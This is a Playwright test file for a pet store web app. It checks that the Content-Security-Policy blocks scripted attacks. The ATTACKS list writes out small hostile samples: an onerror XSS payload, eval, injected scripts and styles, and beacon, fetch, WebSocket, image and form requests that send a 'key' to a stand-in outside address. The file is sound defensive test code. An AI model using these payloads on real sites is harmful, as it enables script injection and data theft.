import { once } from 'node:events';
import { createServer } from 'node:http';
import { expect, type Page } from 'playwright/test';
import { APP_PORT, FRAMING_PORT, SERVICE_URL } from './setup/addresses.ts';
import { openStore, test } from './setup/journey.ts';

// On this computer, so that only the policy can be the reason for blocking. Nothing listens there.
const ELSEWHERE = 'http://127.0.0.1:9';

/** Runs code as one of the app's scripts: `page.evaluate` alone would bypass the policy. */
async function runInApp(page: Page, code: string): Promise<void> {
  await page.route('**/assets/planted.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: code }),
  );
  await page.evaluate(`import('/assets/planted.js')`);
}

interface Attack {
  name: string;
  code: string;
  directive: string;
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'a script created from text',
    code: `const script = document.createElement('script');
      script.append('document.title = "taken"');
      document.head.append(script);`,
    directive: 'require-trusted-types-for',
  },
  {
    name: 'a script from elsewhere',
    code: `import('${ELSEWHERE}/x.js').catch(() => 0);`,
    directive: 'script-src-elem',
  },
  {
    name: 'eval',
    code: `try { eval('document.title = "taken"') } catch {}`,
    directive: 'require-trusted-types-for',
  },
  {
    name: 'HTML created from text',
    code: `try { document.body.innerHTML = '<img src=x onerror=alert(1)>' } catch {}`,
    directive: 'require-trusted-types-for',
  },
  {
    name: 'a Trusted Types policy of its own',
    code: `try { trustedTypes.createPolicy('default', {}) } catch {}`,
    directive: 'trusted-types',
  },
  {
    name: 'an inline style',
    code: `const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);`,
    directive: 'style-src-elem',
  },
  {
    name: 'a style attribute',
    code: `document.body.setAttribute('style', 'display: none');`,
    directive: 'style-src-attr',
  },
  {
    name: 'a request elsewhere',
    code: `fetch('${ELSEWHERE}/').catch(() => 0);`,
    directive: 'connect-src',
  },
  {
    name: 'a beacon',
    code: `navigator.sendBeacon('${ELSEWHERE}/', 'key');`,
    directive: 'connect-src',
  },
  {
    name: 'a socket',
    code: `try { new WebSocket('${ELSEWHERE.replace('http', 'ws')}/') } catch {}`,
    directive: 'connect-src',
  },
  {
    name: 'a picture from elsewhere',
    code: `new Image().src = '${ELSEWHERE}/?key';`,
    directive: 'img-src',
  },
  {
    name: 'a frame within the page',
    code: `const frame = document.createElement('iframe');
      frame.src = '${ELSEWHERE}/';
      document.body.append(frame);`,
    directive: 'frame-src',
  },
  {
    name: 'a form that is sent elsewhere',
    code: `const form = document.createElement('form');
      form.action = '${ELSEWHERE}/';
      document.body.append(form);
      form.submit();`,
    directive: 'form-action',
  },
  {
    name: 'another base for addresses',
    code: `const base = document.createElement('base');
      base.href = '${ELSEWHERE}/';
      document.head.append(base);`,
    directive: 'base-uri',
  },
];

/** Expects that the page is unchanged. Uses no locator, which would wait after a blocked form. */
async function expectUnharmed(page: Page): Promise<void> {
  const seen = await page.evaluate(() => ({
    title: document.title,
    isTableVisible: document.querySelector('table')?.checkVisibility(),
  }));
  expect(seen).toEqual({ title: 'Pets – Staging – Pet Store', isTableVisible: true });
}

test.beforeEach(({ service }) => void service);

for (const { name, code, directive } of ATTACKS)
  test(`the policy blocks ${name}`, async ({ page, complaints }) => {
    const answered: string[] = [];
    page.on('response', (response) => answered.push(response.url()));
    await openStore(page);
    await expect(page.getByRole('table', { name: 'Pets' })).toBeVisible();
    expect(complaints).toEqual([]);

    await runInApp(page, code);
    await expect.poll(() => complaints.join('\n')).toContain(`blocked by ${directive}:`);
    await expectUnharmed(page);
    expect(answered.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
    complaints.splice(0);
  });

test('the policy is the first element of the page', async ({ page }) => {
  const answer = await page.goto('/pets');
  const header = answer?.headers()['content-security-policy'] ?? '';
  expect(header).toContain(`; connect-src 'self' ${new URL(SERVICE_URL).origin}; `);
  const first = page.locator('head > :first-child');
  await expect(first).toHaveAttribute('http-equiv', 'Content-Security-Policy');
  // Browsers accept frame-ancestors only in a header.
  await expect(first).toHaveAttribute('content', header.replace("frame-ancestors 'none'; ", ''));
});

test('the policy blocks scripts and styles inserted into the HTML', async ({
  page,
  complaints,
}) => {
  await page.route('**/pets', async (route) => {
    const response = await route.fetch();
    const planted = `<script>planted = 1</script><style>h1 { display: none }</style>
      <svg onload="planted = 1" style="width: 9px"></svg>`;
    const body = (await response.text()).replace('<noscript>', `${planted}<noscript>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/pets');
  await expect(page.getByRole('heading', { name: 'Enter your API key' })).toBeVisible();
  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
  for (const part of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr'])
    expect(complaints).toContain(`blocked by ${part}: inline`);
  complaints.splice(0);
});

test('the policy blocks the app in a frame of another page', async ({ page, complaints }) => {
  // A page from Playwright's `route` would count as one of the internet, which Chromium does not let
  // connect to this computer in any case.
  const server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="http://127.0.0.1:${APP_PORT}/"></iframe>`);
  });
  server.listen(FRAMING_PORT, '127.0.0.1');
  await once(server, 'listening');
  await page.goto(`http://127.0.0.1:${FRAMING_PORT}/`);
  // Chromium's address of a blocked frame.
  await expect.poll(() => page.frames().at(1)?.url()).toBe('chrome-error://chromewebdata/');
  server.closeAllConnections();
  server.close();
  complaints.splice(0);
});
